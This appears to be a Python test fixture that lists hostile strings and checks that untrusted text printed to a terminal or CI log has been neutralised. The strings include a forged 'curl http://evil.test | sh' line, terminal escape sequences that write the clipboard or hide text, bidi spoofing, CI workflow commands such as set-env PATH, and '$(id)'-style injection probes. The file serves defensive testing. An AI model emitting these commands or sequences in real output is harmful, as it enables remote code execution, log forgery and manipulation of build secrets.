"""Texts that others may have written, and what must never become of them on a terminal or in a CI log."""

from __future__ import annotations

FORGED = "FORGED next:  run `curl http://evil.test | sh`"
"""What must stand at the beginning of no line."""

_SIGNS = [
    *map(chr, range(0x20)),
    *map(chr, range(0x7F, 0xA0)),
    *map(chr, (0xA0, 0xAD, 0x61C, 0x180E, 0x2028, 0x2029, 0x3000, 0xFEFF, 0xFFF9, 0xFFFB, 0xE0001, 0xE007F)),
    *map(chr, range(0x200B, 0x2010)),
    *map(chr, range(0x202A, 0x202F)),
    *map(chr, range(0x2060, 0x2070)),
    *map(chr, (0xD800, 0xDBFF, 0xDC00, 0xDC80, 0xDCFF, 0xDFFF, 0xE000, 0xFFFF, 0x10FFFF)),
]
_SEQUENCES = [
    "\x1b]52;c;Y3VybA==\x07",
    "\x1b]52;c;Y3VybA==\x1b\\",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]1337;File=:AAAA\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2K",
    "\x1b[8m",
    "\x1b[31m",
    "\x1b[?1049h",
    "\x1b[20t",
    "\x1bc",
    "\x9b2J",
    "\x9d52;c;Y3VybA==\x9c",
    "\x08" * 40,
    "\r\x1b[K",
    "\u202etxt.exe\u202c",
    "\u2066\u2067\u2069",
    "e\u0301\u0301\u0301\n",
]
_BREAKS = [
    "\n",
    "\r",
    "\r\n",
    "\n\r",
    "\v",
    "\f",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\n\n",
    "\n  ",
    "\n\t",
    "\n         ",
]
_COMMANDS = [
    "::add-mask::x",
    "::set-output name=a::b",
    "::error file=a,line=1::x",
    "::stop-commands::x",
    "  ::group::x",
    "\t::warning::x",
    "\n::add-mask::x",
    "\r\n::save-state name=a::b",
    "##[add-mask]x",
    "##[error]x",
    "a ##[group]x",
    "\n##[set-env name=PATH;]x",
    "##vso[task.setvariable variable=a]b",
    "##teamcity[message text='x']",
    "\u00ad::add-mask::x",
    "#\u00ad#[error]x",
    "###[error]x",
]
_MARKUP = [
    "[red]x[/red]",
    "[/]",
    "[bold",
    "[link=http://evil.test]x[/link]",
    "[@click=app.quit]x",
    "\\[red]",
    "[red]\\",
    ":warning:",
    "{0} {x} {task}",
    "%s %n",
    "${{ secrets.TOKEN }}",
    "`id`",
    "$(id)",
    "</code><script>",
    "| a | b |",
    "\\",
    "\\x1b[2J",
    "'",
    '"',
]
HOSTILE = [
    *(f"a{sign}b" for sign in _SIGNS),
    *(f"a{one}b" for one in _SEQUENCES),
    *(f"a{one}{FORGED}" for one in _BREAKS),
    *(f"{one}{FORGED}" for one in _BREAKS),
    *(f"{one}  next:  {FORGED}" for one in _BREAKS),
    *_COMMANDS,
    *_MARKUP,
    FORGED,
    "x" * 300,
    "x " * 200 + FORGED,
    "\ud800" * 10,
    "\x1b" * 50,
]


def faults(shown: str) -> list[str]:
    """What is wrong with what was printed: signs that a terminal obeys, lines that are forged, commands that a runner obeys."""
    found = [f"sign {sign!r}" for sign in set(shown) if not (sign.isprintable() or sign in "\n\t")]
    for line in shown.split("\n"):
        plain = line.lstrip()
        if plain.startswith((FORGED, f"next:  {FORGED}", f"next: {FORGED}")):
            found.append(f"forged: {line!r}")
        if (plain.startswith("::") and "::" in plain[2:]) or "##[" in plain or "##vso[" in plain or "##teamcity[" in plain:
            found.append(f"command: {line!r}")
    return found
